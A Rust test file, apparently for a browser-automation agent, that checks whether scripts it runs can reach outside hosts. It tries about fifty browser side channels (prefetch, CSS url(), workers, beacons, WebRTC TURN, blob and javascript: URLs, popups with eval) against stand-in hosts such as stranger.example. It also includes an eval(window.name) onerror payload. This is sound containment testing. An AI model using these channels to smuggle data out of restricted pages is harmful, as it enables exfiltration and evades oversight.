//! All the ways that a browser gives a script to send something beside plain requests, each tried from a script of
//! a run: by the hold nothing comes, and without it each of those that this browser has does.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::stage::{Asked, HOME, Page, Run, STEP, Stage, press};
use crate::support::{DEADLINE, act_options};
use copilot_ports::Browser;
use copilot_protocol::Action;
use futures::StreamExt;
use tokio::io::AsyncReadExt;

/// `T`: an address of a stranger; `S`: the same by https; `ADD(html)`: puts an element into the page; `H`: the
/// head. `true`: it works where nothing is held, so that its row can fail.
const CHANNELS: &[(&str, bool, &str)] = &[
    ("prefetch", true, "ADD(`<link rel=prefetch href='${T}'>`)"),
    (
        "prerender",
        false,
        "ADD(`<link rel=prerender href='${T}'>`)",
    ),
    (
        "preload-module",
        true,
        "ADD(`<link rel=modulepreload href='${T}'>`)",
    ),
    (
        "preconnect",
        true,
        "ADD(`<link rel=preconnect href='${S}'>`)",
    ),
    ("icon", false, "ADD(`<link rel=icon href='${T}'>`)"),
    ("manifest", false, "ADD(`<link rel=manifest href='${T}'>`)"),
    (
        "rules-prefetch",
        false,
        "RULES({prefetch: [{source: 'list', urls: [S], eagerness: 'immediate'}]})",
    ),
    (
        "rules-prerender",
        false,
        "RULES({prerender: [{source: 'list', urls: [S], eagerness: 'immediate'}]})",
    ),
    ("css-import", true, "ADD(`<style>@import '${T}';</style>`)"),
    (
        "css-url",
        true,
        "ADD(`<i style='display: block; background: url(${T})'>x</i>`)",
    ),
    (
        "css-mask",
        true,
        "ADD(`<i style='display: block; mask-image: url(${T})'>x</i>`)",
    ),
    ("font", true, "await new FontFace('F', `url(${T})`).load()"),
    ("embed", true, "ADD(`<embed src='${T}'>`)"),
    ("object", true, "ADD(`<object data='${T}'></object>`)"),
    ("srcset", true, "ADD(`<img srcset='${T} 1x'>`)"),
    (
        "picture",
        true,
        "ADD(`<picture><source srcset='${T}'><img></picture>`)",
    ),
    ("input-image", true, "ADD(`<input type=image src='${T}'>`)"),
    (
        "svg-image",
        true,
        "ADD(`<svg><image href='${T}' width=9 height=9 /></svg>`)",
    ),
    ("svg-use", false, "ADD(`<svg><use href='${T}#a' /></svg>`)"),
    (
        "svg-filter",
        true,
        "ADD(`<svg><filter id=f1><feImage href='${T}' /></filter><rect width=9 height=9 filter='url(#f1)' /></svg>`)",
    ),
    ("poster", true, "ADD(`<video poster='${T}'></video>`)"),
    (
        "audio",
        true,
        "ADD(`<audio src='${T}' preload=auto></audio>`)",
    ),
    (
        "track",
        true,
        "ADD(`<video crossorigin><track default kind=captions src='${T}'></video>`); document.querySelector('track').track.mode = 'showing'",
    ),
    (
        "worklet",
        true,
        "await new AudioContext().audioWorklet.addModule(T)",
    ),
    (
        "worker-blob",
        true,
        "new Worker(URL.createObjectURL(new Blob([`fetch('${T}', {mode: 'no-cors'})`])))",
    ),
    (
        "worker-data",
        true,
        "new Worker(`data:text/javascript,fetch('${T}', {mode: 'no-cors'})`)",
    ),
    ("worker-home", true, "new Worker('/worker?to=' + T)"),
    (
        "worker-module",
        true,
        "new Worker(URL.createObjectURL(new Blob([`import '${T}'`], {type: 'text/javascript'})), {type: 'module'})",
    ),
    (
        "shared-blob",
        true,
        "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${T}', {mode: 'no-cors'})`])))",
    ),
    ("shared-home", true, "new SharedWorker('/worker?to=' + T)"),
    (
        "service",
        true,
        "await navigator.serviceWorker.register('/worker?to=' + T)",
    ),
    ("socket", true, "new WebSocket(T.replace('http', 'ws'))"),
    (
        "socket-stream",
        true,
        "new WebSocketStream(T.replace('http', 'ws'))",
    ),
    ("events", true, "new EventSource(T)"),
    ("beacon", true, "navigator.sendBeacon(T, 'x')"),
    (
        "keepalive",
        true,
        "await fetch(T, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    ),
    ("later", false, "fetchLater(T, {activateAfter: 0})"),
    (
        "ping",
        true,
        "const a = document.createElement('a'); a.href = '#x'; a.ping = T; H.append(a); a.click()",
    ),
    (
        "payment",
        true,
        "await new PaymentRequest([{supportedMethods: S}], {total: {label: 'a', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    ),
    (
        "identity",
        true,
        "await navigator.credentials.get({identity: {providers: [{configURL: S, clientId: 'a'}]}})",
    ),
    (
        "interest-group",
        false,
        "await navigator.joinAdInterestGroup({owner: new URL(S).origin, name: 'a', lifetimeMs: 9e6}, 9)",
    ),
    ("attribution", false, "ADD(`<img attributionsrc='${S}'>`)"),
    (
        "shared-storage",
        false,
        "await sharedStorage.worklet.addModule(T)",
    ),
    (
        "background-fetch",
        true,
        "const r = await navigator.serviceWorker.register('/worker?to=' + T); await r.backgroundFetch.fetch('a', [T])",
    ),
    (
        "artwork",
        false,
        "navigator.mediaSession.metadata = new MediaMetadata({title: 'a', artwork: [{src: T}]})",
    ),
    (
        "style-sheet",
        true,
        "const c = new DOMParser().parseFromString(`<link rel=stylesheet href='${T}'>`, 'text/html'); H.append(document.adoptNode(c.querySelector('link')))",
    ),
    (
        "fenced",
        false,
        "ADD(`<fencedframe></fencedframe>`); document.querySelector('fencedframe').config = new FencedFrameConfig(T)",
    ),
    (
        "report",
        false,
        "ADD(`<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri ${T}\">`); new Image().src = '/own'",
    ),
    (
        "web-transport",
        true,
        "await new WebTransport('https://web.datagrams.example/').ready",
    ),
    (
        "turn",
        true,
        "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:turn.streams.example:3478?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('a'); await p.setLocalDescription()",
    ),
];

fn pages(asked: &Asked) -> Page {
    match asked.path.as_str() {
        "/worker" => Page::Script(format!("fetch({}, {{mode: 'no-cors'}})", asked.script())),
        "/press" => Page::Html(
            "<button onclick='0'>Press</button><script>made = URL.createObjectURL(new Blob([\
             '<img src=data: onerror=\"eval(window.name)\">'], {type: 'text/html'}))</script>"
                .into(),
        ),
        path => Page::Html(format!("<h1>{path}</h1>")),
    }
}

/// Whatever comes to a port, by streams or datagrams, is noted.
#[derive(Clone, Default)]
struct Peer {
    port: u16,
    came: Arc<Mutex<Vec<String>>>,
}

impl Peer {
    async fn open() -> Self {
        let came = Arc::<Mutex<Vec<String>>>::default();
        let note = |came: &Mutex<Vec<String>>, bytes: &[u8]| {
            came.lock()
                .unwrap()
                .push(String::from_utf8_lossy(bytes).into_owned());
        };
        let (streams, datagrams) = loop {
            let streams = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let at = streams.local_addr().unwrap();
            if let Ok(datagrams) = tokio::net::UdpSocket::bind(at).await {
                break (streams, datagrams);
            }
        };
        let port = streams.local_addr().unwrap().port();
        let noted = came.clone();
        tokio::spawn(async move {
            let mut read = [0; 2048];
            while let Ok((n, _)) = datagrams.recv_from(&mut read).await {
                note(&noted, &read[..n]);
            }
        });
        let noted = came.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = streams.accept().await {
                note(&noted, b"connected");
                let noted = noted.clone();
                tokio::spawn(async move {
                    let mut read = [0; 4096];
                    while let Ok(n @ 1..) = stream.read(&mut read).await {
                        note(&noted, &read[..n]);
                    }
                });
            }
        });
        Self { port, came }
    }

    fn came(&self) -> Vec<String> {
        self.came.lock().unwrap().clone()
    }
}

struct Ground {
    stage: Stage,
    /// Where `S` leads.
    secure: Peer,
    datagrams: Peer,
    streams: Peer,
}

impl Ground {
    async fn start(ahead: bool) -> Self {
        let secure = Peer::open().await;
        let (datagrams, streams) = (Peer::open().await, Peer::open().await);
        let places = format!(
            "MAP *.secure.example 127.0.0.1:{}, MAP *.datagrams.example 127.0.0.1:{}, \
             MAP *.streams.example 127.0.0.1:{}",
            secure.port, datagrams.port, streams.port
        );
        Self {
            stage: Stage::start_with(pages, &places, ahead).await,
            secure,
            datagrams,
            streams,
        }
    }

    /// Carries all channels out in one document; `held`: as a script of the run.
    async fn all(&self, run: &Run, held: bool) {
        let each: String = CHANNELS
            .iter()
            .map(|(name, _, code)| {
                format!(
                    "(async () => {{ const T = 'http://{name}.stranger.example/{name}', S = 'https://{name}.secure.example/{name}'; \
                     try {{ {code} }} catch (e) {{ said['{name}'] = String(e) }} }})();\n"
                )
            })
            .collect();
        let code = format!(
            "const said = window.said = {{}}, H = document.head; \
             const ADD = (html) => document.body.insertAdjacentHTML('beforeend', html); \
             const RULES = (rules) => {{ const s = document.createElement('script'); s.type = 'speculationrules'; \
             s.textContent = JSON.stringify(rules); H.append(s) }};\n{each}setTimeout(() => fetch('/done'), 1500);"
        );
        if !held {
            // Some of them leave a page that answers late, if at all.
            run.says(&format!("(async () => {{ {code} }})(); 0")).await;
            return;
        }
        let action = Action::RunCode { code };
        run.browser.facts(&action).await.unwrap();
        let outcome = run.browser.act(&action, &act_options()).await.unwrap();
        assert!(outcome.status.is_ok(), "{outcome:?}");
        self.stage.heard("/done").await;
    }

    /// Channels by which something came.
    fn came(&self) -> BTreeSet<&'static str> {
        let mut noted = self.stage.strangers();
        noted.extend(self.secure.came());
        CHANNELS
            .iter()
            .map(|(name, ..)| *name)
            .filter(|name| match *name {
                "web-transport" => !self.datagrams.came().is_empty(),
                "turn" => !self.streams.came().is_empty(),
                name => {
                    let host = format!("{name}.s");
                    noted.iter().any(|n| {
                        n.split([' ', '\0', '/']).any(|w| w.starts_with(&host))
                            || n.contains(&format!("{host}ecure.example"))
                    })
                }
            })
            .collect()
    }
}

/// Tabs that work at the same time.
const AT_ONCE: usize = 4;
/// Documents in which all channels are tried where nothing is held.
const TRIES: usize = 3;

/// What is not held of a browser that looks ahead: a connection to a host, on which nothing is sent.
const AHEAD: &str = "preconnect";

#[tokio::test(flavor = "multi_thread")]
async fn no_channel_leads_out_of_a_script() {
    for ahead in [false, true] {
        let ground = Ground::start(ahead).await;
        let run = ground.stage.run().await;
        ground.all(&run, true).await;
        let mut leaked = ground.came();
        assert_eq!(leaked.remove(AHEAD), ahead);
        let said = run.says("JSON.stringify(said)").await;
        assert_eq!(leaked, BTreeSet::new(), "{said}");
        if !ahead {
            continue;
        }
        let works = CHANNELS.iter().filter(|c| c.1).map(|c| c.0);
        let works: BTreeSet<&str> = works.collect();
        // A busy machine may need more than one document for all of them.
        for _ in 0..TRIES {
            let free = ground.stage.free_run(HOME).await;
            ground.all(&free, false).await;
            let end = Instant::now() + DEADLINE / 2;
            while !ground.came().is_superset(&works) && Instant::now() < end {
                tokio::time::sleep(STEP).await;
            }
            if ground.came().is_superset(&works) {
                break;
            }
        }
        let came = ground.came();
        let lame: Vec<_> = works.difference(&came).collect();
        assert!(lame.is_empty(), "{lame:?}");
    }
}

/// Documents of a script's own making, and windows: `T` as above, `P` a port for peers.
const MADE: &[(&str, &str)] = &[
    (
        "write",
        "document.open(); document.write(`<img src='${T}'><script>${PEER}<\\/script>`); document.close()",
    ),
    (
        "url",
        "location = 'javascript:' + JSON.stringify(`<img src='${T}'><script>${PEER}<\\/script>`)",
    ),
    (
        "blob",
        "location = URL.createObjectURL(new Blob([`<img src='${T}'><script>${PEER}<\\/script>`], {type: 'text/html'}))",
    ),
    (
        "window-blank",
        "const w = window.open(''); w.eval(PEER); w.eval(`new Image().src = '${T}'`)",
    ),
    (
        "window-home",
        "const w = window.open('/inner'); setTimeout(() => { w.eval(PEER); w.eval(`new Image().src = '${T}'`) }, 500)",
    ),
    (
        "window-url",
        "const a = document.createElement('a'); a.target = 'b'; a.href = 'javascript:' + PEER + `;new Image().src = '${T}'`; document.body.append(a); a.click()",
    ),
    (
        "window-document",
        "const w = document.open('', 'd', 'popup'); w.eval(PEER); w.eval(`new Image().src = '${T}'`)",
    ),
    (
        "window-blob",
        "const a = document.createElement('a'); a.target = 'e'; a.href = URL.createObjectURL(new Blob([`<img src='${T}' onerror='${PEER.replaceAll(`'`, `&#39;`)}'>`], {type: 'text/html'})); document.body.append(a); a.click()",
    ),
    (
        "blob-handler",
        "location = URL.createObjectURL(new Blob([`<img src='${T}' onerror='${PEER.replaceAll(`'`, `&#39;`)}'>`], {type: 'text/html'}))",
    ),
    (
        "blob-kept",
        "name = PEER + `;new Image().src = '${T}'`; location = made",
    ),
    (
        "download",
        "const a = document.createElement('a'); a.href = T; a.download = 'a'; document.body.append(a); a.click()",
    ),
    (
        "pressed-blank",
        "document.querySelector('button').onclick = () => { const w = window.open(''); w.eval(PEER); w.eval(`new Image().src = '${T}'`) }",
    ),
    (
        "pressed-home",
        "document.querySelector('button').onclick = () => { const w = window.open('/inner'); setTimeout(() => { w.eval(PEER); w.eval(`new Image().src = '${T}'`) }, 500) }",
    ),
    ("window-alone", "window.open(T, '', 'noopener')"),
    (
        "window-form",
        "const f = document.createElement('form'); f.target = 'c'; f.action = T; document.body.append(f); f.submit()",
    ),
];

/// Whether something comes of a row, in a run that holds scripts or in one that does not.
async fn comes_of(stage: &Stage, (name, code): (&str, &str), held: bool) -> bool {
    let peer = Peer::open().await;
    let at = "http://home.example/press";
    let run = match held {
        true => stage.run_at(at).await,
        false => stage.free_run(at).await,
    };
    let path = format!("/{name}-{held}");
    let pressed = name.starts_with("pressed");
    if !pressed {
        press(&run.browser, "Press").await;
    }
    let code = format!(
        "const T = 'http://stranger.example{path}', PEER = `try {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{}'}}]}}); \
         p.createDataChannel('a'); p.setLocalDescription() }} catch {{}}`; try {{ {code} }} catch {{}}",
        peer.port
    );
    if held {
        let action = Action::RunCode { code };
        run.browser.facts(&action).await.unwrap();
        let outcome = run.browser.act(&action, &act_options()).await.unwrap();
        assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
    } else {
        run.says(&format!("(async () => {{ {code} }})(); 0")).await;
    }
    if pressed {
        press(&run.browser, "Press").await;
    }
    let came = || !peer.came().is_empty() || stage.strangers().iter().any(|s| s.ends_with(&path));
    let longest = if held {
        Duration::from_secs(1)
    } else {
        DEADLINE
    };
    let end = Instant::now() + longest;
    while !came() && Instant::now() < end {
        tokio::time::sleep(STEP).await;
    }
    let came = came();
    run.browser.close().await;
    came
}

#[tokio::test(flavor = "multi_thread")]
async fn no_document_that_a_script_makes_leads_out() {
    let stage = Stage::start(pages).await;
    let tries = MADE.iter().flat_map(|row| [(row, true), (row, false)]);
    let wrong: Vec<_> = futures::stream::iter(tries)
        .map(|(row, held)| {
            let stage = &stage;
            async move { (row.0, held, comes_of(stage, *row, held).await) }
        })
        .buffer_unordered(AT_ONCE)
        .filter(|(_, held, came)| std::future::ready(came == held))
        .collect()
        .await;
    assert_eq!(wrong, Vec::new());
}
